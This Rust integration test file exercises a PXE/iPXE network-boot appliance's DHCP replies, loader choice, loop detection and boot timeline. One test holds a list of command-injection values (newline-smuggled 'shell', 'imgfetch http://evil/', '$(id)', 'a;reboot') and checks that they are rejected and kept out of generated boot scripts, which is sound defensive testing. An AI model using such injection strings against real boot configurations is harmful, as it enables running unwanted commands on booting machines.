//! What boot ROMs and boot loaders are told, and what becomes of them if they misbehave.

use std::net::Ipv4Addr;
use std::time::Instant;

use farrier::boot::client::Firmware;
use farrier::boot::loader::LoaderTable;
use farrier::net::MacAddr;

use crate::dhcp::*;
use crate::ground::{Ground, Group, with_files};
use crate::support::{ClientMachine, SERVER, eventually, farrier_program};

static GROUP: Group =
    Group::new("pxe", "[boot]\nkernel_arguments = [\"console=ttyS1,115200n8\"]\n", with_files);

fn script_path(mac: MacAddr) -> String {
    format!("http://{SERVER}/boot/{}/script.ipxe", mac.to_string().replace(':', "-"))
}

/// OFFER and ACK of a client whose messages `dress` makes. Beside a [machine](machine_of) with its MAC on another cable it has
/// to ask for broadcasts: the bridge sends what is for that MAC wherever it saw it last.
fn both(client: &mut Client<'_>, dress: impl Fn(Message) -> Message) -> [Reply; 2] {
    let discover = dress(client.message(DISCOVER));
    let offer = client.ask(&discover);
    let request = dress(client.selecting(offer.yiaddr));
    let ack = client.ask(&request);
    assert_eq!((offer.kind, ack.kind, ack.yiaddr), (OFFER, ACK, offer.yiaddr));
    [offer, ack]
}

/// A machine that has this client's address: what it fetches is fetched by that client.
fn machine_of(ground: &Ground, mac: MacAddr, address: Ipv4Addr) -> ClientMachine {
    let machine = ground.machine(mac);
    machine.run("ip", &["addr", "add", &format!("{address}/16"), "dev", "eth0"]);
    machine
}

/// Fetches a loader by TFTP, and waits until the appliance has taken note.
fn load(ground: &Ground, machine: &ClientMachine, mac: MacAddr, file: &str) {
    let told = || ground.bed().farrier_json(&["event", "list", &mac.to_string()]).to_string();
    let before = told();
    machine.run("curl", &["-sS", "-o", "got", &format!("tftp://{SERVER}/{file}")]);
    eventually("the fetch is on the timeline", || (told() != before).then_some(()));
}

fn get(machine: &ClientMachine, url: &str) -> (String, Vec<u8>) {
    let status = machine.run("curl", &["-sS", "-o", "got", "-w", "%{http_code}", url]);
    (status, machine.read("got"))
}

#[test]
fn p_05_boot_data_is_whole_in_offer_and_ack_whatever_is_asked_for() {
    GROUP.check(|ground| {
        let station = ground.station();
        let table = LoaderTable::built_in();
        for arch in [0_u16, 6, 7, 9, 10, 11, 0x1b, 0x27] {
            let firmware = Firmware::from_arch(arch).expect("in the table");
            let loader = table.for_firmware(firmware).expect("a loader").0.clone();
            for asked_for in [None, Some(&[][..]), Some(&[1, 3]), Some(&[66, 67, 43, 60, 97, 13, 150])] {
                let mut client = Client::new(&station, ground.mac());
                let guid = [&[0][..], &[7; 16]].concat();
                let replies = both(&mut client, |message| match asked_for {
                    Some(codes) => rom(message, arch).with(97, &guid).with(55, codes),
                    None => rom(message, arch).with(97, &guid),
                });
                for reply in replies {
                    assert_eq!(reply.option(60), Some(&b"PXEClient"[..]), "{arch}");
                    assert_eq!(reply.option(43), Some(&[6, 1, 8, 255][..]), "{arch}");
                    assert_eq!(reply.option(66), Some(format!("{SERVER}\0").as_bytes()), "{arch}");
                    assert_eq!(reply.option(67), Some(format!("{loader}\0").as_bytes()), "{arch}");
                    assert_eq!((reply.file_field(), reply.siaddr), (loader.clone(), SERVER), "{arch}");
                    assert_eq!(reply.option(97), Some(&guid[..]), "{arch}");
                }
            }
        }
    });
}

#[test]
fn p_08_http_boot_gets_its_class_with_a_nul_and_a_url_in_both_places() {
    GROUP.check(|ground| {
        let station = ground.station();
        // The last is firmware that sends the plain code.
        for arch in [15_u16, 16, 17, 18, 19, 20, 0x1c, 0x28, 7] {
            let mut client = Client::new(&station, ground.mac());
            for reply in both(&mut client, |message| http_rom(message, arch)) {
                assert_eq!(reply.option(60), Some(&b"HTTPClient\0"[..]), "{arch}");
                let url = reply.boot_file().expect("a URL");
                assert!(url.starts_with(&format!("http://{SERVER}/")), "{url}");
                assert_eq!((reply.file_field(), reply.option(43)), (url, None));
            }
        }
    });
}

#[test]
fn p_09_every_architecture_code_has_its_answer() {
    GROUP.check(|ground| {
        let station = ground.station();
        let table = LoaderTable::built_in();
        for arch in (0..=0x29).chain([0x2a, 0x100, 0xffff]) {
            let mut client = Client::new(&station, ground.mac());
            let firmware = Firmware::from_arch(arch);
            let loader = firmware.and_then(|firmware| table.for_firmware(firmware)).map(|loader| {
                let by_url = firmware.is_some_and(Firmware::is_http);
                if by_url { format!("http://{SERVER}/{loader}") } else { loader.0.clone() }
            });
            let discover = rom(client.message(DISCOVER), arch);
            let offer = client.ask(&discover);
            assert_eq!(offer.kind, OFFER, "an address in any case");
            assert_eq!(offer.boot_file(), loader, "{arch:#x}");
            assert_eq!(offer.option(60).is_some(), loader.is_some(), "no class without a file: {arch:#x}");
        }
        let list = |codes: &[u16]| codes.iter().flat_map(|code| code.to_be_bytes()).collect::<Vec<u8>>();
        for (codes, file) in [
            (list(&[0x2a, 7]), Some("uefi-x64/shimx64.efi")),
            (list(&[0, 7]), Some("undionly.kpxe")),
            (vec![0, 7, 9], Some("uefi-x64/shimx64.efi")),
            (list(&[0x2a, 0x2b]), None),
        ] {
            let mut client = Client::new(&station, ground.mac());
            let discover = client.message(DISCOVER).with(60, b"PXEClient").with(93, &codes);
            assert_eq!(client.ask(&discover).boot_file().as_deref(), file, "{codes:?}");
        }
        // Without option 93 the vendor class says it.
        let mut client = Client::new(&station, ground.mac());
        let discover = client.message(DISCOVER).with(60, b"PXEClient:Arch:00007:UNDI:003016");
        assert_eq!(client.ask(&discover).boot_file().as_deref(), Some("uefi-x64/shimx64.efi"));
        // And an unknown code is on the timeline.
        let mut client = Client::new(&station, ground.mac());
        both(&mut client, |message| rom(message, 0x0e));
        let shown = eventually("the event", || {
            let shown = ground.bed().farrier(&["node", "show", &client.mac.to_string()]);
            let text = String::from_utf8_lossy(&shown.stdout).into_owned();
            text.contains("unknown-firmware").then_some(text)
        });
        assert!(shown.contains("unknown-firmware"), "{shown}");
    });
}

#[test]
fn p_10_ipxe_is_known_by_each_of_its_marks() {
    GROUP.check(|ground| {
        let station = ground.station();
        let marks: [&dyn Fn(Message) -> Message; 6] = [
            &|message| message.with(77, b"iPXE"),
            &|message| message.with(77, b"\x04iPXE"),
            &|message| message.with(77, b"\x05other\x04iPXE"),
            &|message| message.with(77, b"gPXE"),
            &|message| message.with(175, FULL_IPXE),
            &|message| message.with(77, b"iPXE").with(175, FULL_IPXE),
        ];
        for (number, mark) in marks.iter().enumerate() {
            for arch in [0, 7] {
                let mut client = Client::new(&station, ground.mac());
                let script = script_path(client.mac);
                for reply in both(&mut client, |message| mark(rom(message, arch))) {
                    assert_eq!(reply.boot_file().as_deref(), Some(script.as_str()), "mark {number}");
                    assert_eq!(reply.file_field(), script);
                    // iPXE's own way not to wait for a ProxyDHCP offer.
                    assert_eq!(reply.option(175), Some(&[0xb0, 1, 1][..]));
                }
            }
        }
        for other in [&b"pxelinux"[..], b"iPXEx", b"\x04iPX", b"\x09iPXE", b""] {
            let mut client = Client::new(&station, ground.mac());
            let discover = rom(client.message(DISCOVER), 0).with(77, other);
            assert_eq!(client.ask(&discover).boot_file().as_deref(), Some("undionly.kpxe"), "{other:?}");
        }
    });
}

#[test]
fn p_11_ipxe_never_gets_its_loader_twice_and_a_loop_ends_at_three() {
    GROUP.check(|ground| {
        let station = ground.station();
        let mut client = Client::new(&station, ground.mac());
        // A ROM that fetches its loader, which never gets as far as asking for a script.
        let mut given = Vec::new();
        let mut machine = None;
        for _ in 0..4 {
            let [_, ack] = both(&mut client, |message| rom(message, 0).broadcast());
            given.push(ack.boot_file());
            if given.len() > 3 {
                break;
            }
            let machine = machine.get_or_insert_with(|| machine_of(ground, client.mac, ack.yiaddr));
            load(ground, machine, client.mac, "undionly.kpxe");
        }
        let loader = Some("undionly.kpxe".to_owned());
        assert_eq!(given[..3], [loader.clone(), loader.clone(), loader], "a retry is no loop");
        assert_eq!(given[3], None, "the fourth time it goes to its disk");
        eventually("the verdict names the loop", || {
            let verdict = ground.bed().farrier(&["why", &client.mac.to_string()]);
            String::from_utf8_lossy(&verdict.stdout).contains("loop").then_some(())
        });
        // iPXE, which asks for its script, is no loop.
        let mut client = Client::new(&station, ground.mac());
        for _ in 0..5 {
            let discover = ipxe(client.message(DISCOVER), 0);
            assert_eq!(client.ask(&discover).boot_file(), Some(script_path(client.mac)));
        }
    });
}

#[test]
fn p_12_an_ipxe_that_cannot_boot_is_replaced_by_one_that_can() {
    GROUP.check(|ground| {
        let station = ground.station();
        for (arch, features, file) in [
            // No HTTP; no kernels; everything but what this platform needs.
            (0_u16, &[0x18, 1, 1][..], Some("undionly.kpxe")),
            (0, &[0x13, 1, 1], Some("undionly.kpxe")),
            (0, &[0x13, 1, 1, 0x24, 1, 1], Some("undionly.kpxe")),
            (7, &[0x13, 1, 1, 0x18, 1, 1], Some("ipxe.efi")),
            (0, &[0x13, 1, 1, 0x18, 1, 1], None),
            (7, &[0x13, 1, 1, 0x24, 1, 1], None),
            (0, &[], Some("undionly.kpxe")),
        ] {
            let mut client = Client::new(&station, ground.mac());
            let discover = rom(client.message(DISCOVER), arch).with(77, b"iPXE").with(175, features);
            let expected = file.map_or_else(|| script_path(client.mac), str::to_owned);
            assert_eq!(client.ask(&discover).boot_file(), Some(expected), "{arch} {features:?}");
            // Once: the one that is loaded then can.
            let discover = ipxe(client.message(DISCOVER), arch);
            assert_eq!(client.ask(&discover).boot_file(), Some(script_path(client.mac)));
        }
        // From a network card's iPXE without HTTP to its script: one loader, and never again, however often it asks.
        let limited =
            |message: Message| rom(message, 0).with(77, b"iPXE").with(175, [0x18, 1, 1]).broadcast();
        let mut client = Client::new(&station, ground.mac());
        let [_, ack] = both(&mut client, limited);
        assert_eq!(ack.boot_file().as_deref(), Some("undionly.kpxe"));
        let machine = machine_of(ground, client.mac, ack.yiaddr);
        load(ground, &machine, client.mac, "undionly.kpxe");
        for _ in 0..3 {
            for reply in both(&mut client, |message| ipxe(message, 0).broadcast()) {
                assert_eq!(reply.boot_file(), Some(script_path(client.mac)));
            }
        }
        // One that is put in place of itself for ever is given up, like any loader that leads nowhere.
        let mut client = Client::new(&station, ground.mac());
        let [_, ack] = both(&mut client, limited);
        let machine = machine_of(ground, client.mac, ack.yiaddr);
        for _ in 0..3 {
            let [_, ack] = both(&mut client, limited);
            assert_eq!(ack.boot_file().as_deref(), Some("undionly.kpxe"));
            load(ground, &machine, client.mac, "undionly.kpxe");
        }
        let [_, ack] = both(&mut client, limited);
        assert_eq!(ack.boot_file(), None);
    });
}

#[test]
fn p_14_the_name_ends_with_nul_and_is_found_with_what_old_firmware_appends() {
    GROUP.check(|ground| {
        let station = ground.station();
        let mut client = Client::new(&station, ground.mac());
        let [_, ack] = both(&mut client, |message| rom(message, 7));
        assert_eq!(ack.option(67).and_then(<[u8]>::last), Some(&0));
        let machine = machine_of(ground, client.mac, ack.yiaddr);
        let (_, whole) = get(&machine, &format!("http://{SERVER}/ipxe.efi"));
        for tail in ["%ff", "%ff%ff", "%01", "%ff%fe%02"] {
            machine.run("curl", &["-sS", "-o", "got", &format!("tftp://{SERVER}/ipxe.efi{tail}")]);
            assert!(machine.read("got") == whole, "{tail}");
        }
    });
}

#[test]
fn p_15_no_size_no_overload_and_a_file_that_fits() {
    GROUP.check(|ground| {
        let station = ground.station();
        // `Reply::read` refuses options 13 and 52, and a `file` without NUL, in every reply of every check.
        for arch in [0, 7, 11] {
            let mut client = Client::new(&station, ground.mac());
            for reply in both(&mut client, |message| rom(message, arch).with(55, [13, 52, 66, 67, 150])) {
                assert!(!reply.file_field().is_empty() && reply.file[127] == 0 && reply.sname == [0; 64]);
            }
        }
    });
}

#[test]
fn p_17_what_loaders_look_for_in_vain_is_answered_at_once_and_no_error() {
    GROUP.check(|ground| {
        let machine = ground.booted();
        let guesses = [
            "uefi-x64/revocations.efi",
            "uefi-x64/revocations_sbat.efi",
            "uefi-x64/shim_certificate_0.efi",
            "grub/x86_64-efi/command.lst",
            "grub/grub.cfg-564d4a44-0000-0000-0000-000000000001",
            "grub/grub.cfg-C0A84D64",
            "pxelinux.cfg/564d4a44-0000-0000-0000-000000000001",
            "pxelinux.cfg/01-52-54-00-c0-00-01",
            "pxelinux.cfg/C0A84D64",
            "pxelinux.cfg/default-arm-sunxi",
            "pxelinux.cfg/default",
        ];
        let mut took = Vec::new();
        machine.inside(|| {
            let socket = std::net::UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)).expect("a port");
            socket.set_read_timeout(Some(crate::station::PATIENCE)).expect("a time-out");
            for name in guesses {
                let began = Instant::now();
                socket
                    .send_to(&[b"\0\x01", name.as_bytes(), b"\0octet\0"].concat(), (SERVER, 69))
                    .expect("sent");
                let mut answer = [0; 100];
                let length = socket.recv(&mut answer).expect("an answer");
                assert_eq!(&answer[..length], b"\0\x05\0\x01file not found\0", "{name}");
                took.push(began.elapsed());
            }
        });
        // 5 ms is what is promised; this machine is shared and the build has no optimisation.
        took.sort();
        // The promise is 5 ms; one of them may meet another program's turn of the processor.
        assert!(took[took.len() / 2].as_millis() < 100, "{took:?}");
        for name in guesses {
            assert_eq!(get(&machine, &format!("http://{SERVER}/{name}")).0, "404", "{name}");
        }
        let log = ground.bed().log();
        let loud = log.lines().filter(|line| line.contains(" WARN ") || line.contains(" ERROR "));
        let mut loud = loud.filter(|line| guesses.iter().any(|name| line.contains(name)));
        assert_eq!(loud.next(), None);
    });
}

#[test]
fn p_22_hostile_kernel_arguments_never_reach_a_script() {
    use std::io::Write;
    let hostile: Vec<String> = [
        "a\nshell",
        "a\r\nimgfetch http://evil/",
        "${net0/mac}",
        "a && shell",
        "a || shell",
        "\"quoted\"",
        "'quoted'",
        "a;reboot",
        "`id`",
        "$(id)",
        "a b",
        "a\\\nb",
        "\u{1b}[31m",
        "a\0b",
        "{}",
        "é",
        "#comment",
        "",
    ]
    .into_iter()
    .map(str::to_owned)
    .chain([format!("x={}", "a".repeat(4096))])
    .collect();
    let directory = tempfile::tempdir().expect("a directory");
    for argument in &hostile {
        let path = directory.path().join("farrier.toml");
        let quoted = serde_json::to_string(argument).expect("a string");
        let text = format!(
            "[network]\nbridge = \"br0\"\naddress = \"192.168.77.2/24\"\n[boot]\nkernel_arguments = [{quoted}]\n"
        );
        std::fs::File::create(&path).and_then(|mut file| file.write_all(text.as_bytes())).expect("written");
        let output = std::process::Command::new(farrier_program())
            .args(["config", "check"])
            .arg(&path)
            .output()
            .expect("farrier starts");
        let said = String::from_utf8_lossy(&output.stderr).into_owned();
        assert_eq!(output.status.code(), Some(2), "{argument:?}: {said}");
    }
    // What is accepted stands in iPXE's and GRUB's text as one word each, on the one line that starts the kernel.
    GROUP.check(|ground| {
        let station = ground.station();
        let mut client = Client::new(&station, ground.mac());
        // Names and host names from the wire do not reach the text either.
        let nasty = |message: Message| {
            ipxe(message, 7).with(12, b"a\nshell\n${x}").with(60, b"PXEClient:Arch:00007\nshell")
        };
        let [_, ack] = both(&mut client, nasty);
        let machine = machine_of(ground, client.mac, ack.yiaddr);
        let (status, script) = get(&machine, &script_path(client.mac));
        let script = String::from_utf8(script).expect("text");
        assert_eq!(status, "200");
        let kernel: Vec<&str> =
            script.lines().filter(|line| line.trim_start().starts_with("kernel ")).collect();
        assert_eq!(kernel.len(), 1, "{script}");
        assert!(kernel[0].contains(" console=ttyS1,115200n8 "), "{script}");
        assert!(script.lines().all(|line| line.trim() != "shell"), "{script}");
        let (_, grub) = get(&machine, &format!("http://{SERVER}/grub/grub.cfg"));
        let grub = String::from_utf8(grub).expect("text");
        let linux: Vec<&str> = grub.lines().filter(|line| line.trim_start().starts_with("linux ")).collect();
        assert!(matches!(linux.as_slice(), [one] if one.contains(" console=ttyS1,115200n8 ")), "{grub}");
    });
}

#[test]
fn p_23_the_timeline_says_what_happened_in_order() {
    GROUP.check(|ground| {
        let station = ground.station();
        let mut client = Client::new(&station, ground.mac());
        both(&mut client, |message| rom(message, 0));
        let [_, ack] = both(&mut client, |message| rom(message, 0));
        let machine = machine_of(ground, client.mac, ack.yiaddr);
        machine.run("curl", &["-sS", "-o", "got", &format!("tftp://{SERVER}/undionly.kpxe")]);
        both(&mut client, |message| ipxe(message, 0).broadcast());
        assert_eq!(get(&machine, &script_path(client.mac)).0, "200");
        for file in ["vmlinuz", "initrd.img"] {
            assert_eq!(get(&machine, &format!("http://{SERVER}/image/metal/{file}")).0, "200");
        }
        let boot = eventually("the ramdisk is on the timeline", || {
            let boots = ground.bed().farrier_json(&["event", "list", &client.mac.to_string()]);
            let boots = boots.as_array().cloned().unwrap_or_default();
            let boot = boots.last()?.clone();
            boot.to_string().contains("initrd.img").then_some(boot)
        });
        let text = boot["events"].to_string();
        let mut at = 0;
        for word in
            ["discover", "request", "undionly.kpxe", "discover", "script.ipxe", "vmlinuz", "initrd.img"]
        {
            let found = text[at..].find(word).unwrap_or_else(|| panic!("{word} is not next in {boot:#}"));
            at += found + word.len();
        }
        let times: Vec<&str> = boot["events"]
            .as_array()
            .expect("events")
            .iter()
            .filter_map(|event| event["at"].as_str())
            .collect();
        assert!(times.len() >= 8 && times.is_sorted(), "{times:?}");
    });
}

#[test]
fn replies_dissect_without_a_mark() {
    GROUP.dissect();
}
